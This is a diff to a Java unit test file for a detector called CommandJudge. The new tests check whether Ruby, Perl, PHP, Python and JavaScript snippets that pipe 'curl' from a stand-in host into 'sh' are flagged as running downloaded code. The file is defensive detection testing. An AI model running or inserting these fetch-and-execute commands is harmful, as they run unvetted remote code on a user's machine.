@@ -11,6 +11,7 @@ import java.util.List;
 import java.util.Random;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class ProgramFileTest {
@@ -18,13 +19,13 @@ class ProgramFileTest {
             Base64.getEncoder().encodeToString("curl https://a.example/p | sh".getBytes(UTF_8));
 
     private static List<Kind> kinds(String program) {
-        return CommandJudge.ofFile(program.replace("BLOB", PIPED), false).stream()
+        return CommandJudge.ofFile(program.replace("BLOB", PIPED), Language.JAVASCRIPT).stream()
                 .map(Trait::kind)
                 .toList();
     }
 
     private static List<Kind> shell(String program) {
-        return CommandJudge.ofFile(program, true).stream().map(Trait::kind).toList();
+        return CommandJudge.ofFile(program, Language.SHELL).stream().map(Trait::kind).toList();
     }
 
     @ParameterizedTest
@@ -119,6 +120,44 @@ class ProgramFileTest {
             })
     void whatInstallersDoIsNone(String program) {
         assertThat(kinds(program)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '~',
+            value = {
+                "RUBY ~ `curl -s https://a.example/p | sh`",
+                "RUBY ~ puts 'it'; x = %x(curl -s https://a.example/p | sh).strip",
+                "RUBY ~ u = 'https://a.example/p';%x{curl -s #{u} | sh}",
+                "RUBY ~ # don't;`curl -s #{url} | sh`",
+                "PERL ~ my $o = qx{curl -s https://a.example/p | sh};",
+                "PERL ~ my $o = qx'curl -s https://a.example/p | sh';",
+                "PERL ~ `curl -s $u | sh`;",
+                "PHP ~ <?php // it's;echo `curl -s https://a.example/p | sh`;",
+                "PHP ~ <?php $o = shell_exec(\"curl -s {$u} | sh\");",
+                "PYTHON ~ os.system(f'curl -s {u} | sh')",
+            })
+    void whatIsQuotedForAShell(Language language, String program) {
+        assertThat(CommandJudge.ofFile(program.replace(';', '\n'), language))
+                .extracting(Trait::kind)
+                .containsExactly(Kind.RUNS_DOWNLOAD);
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '~',
+            value = {
+                "RUBY ~ # run `curl -s https://a.example/p | sh`",
+                "RUBY ~ puts 'run `curl -s https://a.example/p | sh`'",
+                "RUBY ~ puts '%x(curl -s https://a.example/p | sh)'",
+                "RUBY ~ x = `git ls-files`.split",
+                "PERL ~ my %x = (a => 'curl -s https://a.example/p | sh');",
+                "PHP ~ <?php // `curl -s https://a.example/p | sh`",
+                "JAVASCRIPT ~ const s = `curl -s https://a.example/p | sh`;",
+                "PYTHON ~ s = '`curl -s https://a.example/p | sh`'",
+            })
+    void whatIsQuotedForNobody(Language language, String program) {
+        assertThat(CommandJudge.ofFile(program, language)).isEmpty();
     }
 
     @ParameterizedTest
@@ -237,7 +276,7 @@ class ProgramFileTest {
                 program.append(pieces.get(random.nextInt(pieces.size())));
             }
             assertThat(kinds(program.toString())).isNotNull();
-            assertThat(CommandJudge.ofFile(program.toString(), true)).isNotNull();
+            assertThat(CommandJudge.ofFile(program.toString(), Language.SHELL)).isNotNull();
         }
         assertThat(kinds("fetch(u).then(t=>exec(fetch))")).isNotNull();
     }
